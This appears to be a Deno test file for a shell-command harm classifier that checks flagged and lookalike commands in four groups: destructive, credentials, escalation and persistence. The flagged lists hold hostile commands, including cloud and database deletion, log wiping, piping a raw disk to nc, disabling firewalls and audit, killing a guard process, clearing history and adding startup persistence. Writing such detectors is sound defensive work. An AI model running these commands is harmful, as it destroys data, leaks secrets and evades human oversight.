import { assert, assertEquals } from "@std/assert";
import { type Harm, harmOf } from "./command_harm.ts";
import { findInvocations } from "./invocation.ts";
import { loadCommandParser } from "./shell.ts";

const shell = await loadCommandParser();

function harms(text: string): readonly Harm[] {
  return findInvocations(text, shell).invocations.flatMap((each) => [...harmOf(each)]);
}

const TABLE: readonly (readonly [harm: Harm, found: readonly string[], passed: readonly string[]])[] = [
  ["destructive", [
    "aws ec2 terminate-instances --instance-ids i",
    "aws --region x dynamodb delete-table --table-name t",
    "gcloud compute instances delete x",
    "az group delete -n x",
    "gh repo delete a/b --yes",
    "gh api -X DELETE /repos/a/b",
    "gh api --method=DELETE /repos/a/b",
    "heroku apps:destroy x",
    "pulumi destroy -y",
    "helm uninstall x",
    "npm unpublish x -f",
    "docker compose down -v",
    "docker-compose down --volumes",
    "psql -c 'drop database x'",
    "mysql -e 'DROP   TABLE x'",
    "sqlite3 a.db 'truncate table x'",
    "redis-cli -n 1 flushall",
    "mongosh --eval 'db.dropDatabase()'",
    "journalctl --vacuum-time=1s",
    "echo > /var/log/auth.log",
  ], [
    "aws ec2 describe-instances",
    "aws s3 cp delete.txt s3://b/x",
    "gcloud compute instances list",
    "gh pr list",
    "gh api /repos/a/b",
    "npm uninstall lodash",
    "npm run delete",
    "docker compose down",
    "psql -c 'select * from drops'",
    "redis-cli get flush",
    "mongosh --eval 'db.a.find()'",
    "journalctl -u x",
    "grep x /var/log/syslog > out.txt",
  ]],
  ["credentials", [
    "cat /dev/sda | nc h 1",
    "dd if=/dev/nvme0n1 of=/tmp/x",
    "strings /dev/mem",
    "xxd /dev/kmem",
    "head -c 1M /dev/mapper/root",
  ], ["dd if=/dev/zero of=x", "head -c 8 /dev/urandom", "cat /dev/null", "df /dev/sda1", "lsblk /dev/sda", "cat sda"]],
  ["escalation", [
    "iptables -F",
    "nft flush ruleset",
    "ufw disable",
    "setenforce 0",
    "auditctl -D",
    "systemctl stop firewalld",
    "systemctl --now mask auditd.service",
    "service ufw stop",
    "launchctl unload x",
    "pkill -9 -f sallyport",
    "killall sallyport",
    "history -c",
    "unset HISTFILE",
    "HISTFILE=/dev/null bash x",
  ], [
    "iptables -L",
    "ufw status",
    "systemctl stop postgresql",
    "systemctl status firewalld",
    "launchctl list",
    "pkill node",
    "history",
    "unset FOO",
    "csrutil status",
  ]],
  ["persistence", [
    "systemd-run --user --on-calendar=daily x",
    "defaults write com.apple.loginwindow LoginHook x",
    "reg add 'HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run' /v x",
    "osascript -e 'tell app \"System Events\" to make login item'",
  ], [
    "systemctl status x",
    "defaults read com.apple.loginwindow",
    "defaults write com.apple.dock autohide -bool true",
    "reg query 'HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run'",
    "osascript -e 'display notification \"x\"'",
  ]],
];

for (const [harm, found, passed] of TABLE) {
  Deno.test(`harmOf() knows ${harm}, and what looks like it`, () => {
    for (const text of found) assert(harms(text).includes(harm), `${text}: ${harms(text)}`);
    for (const text of passed) assertEquals(harms(text), [], text);
  });
}
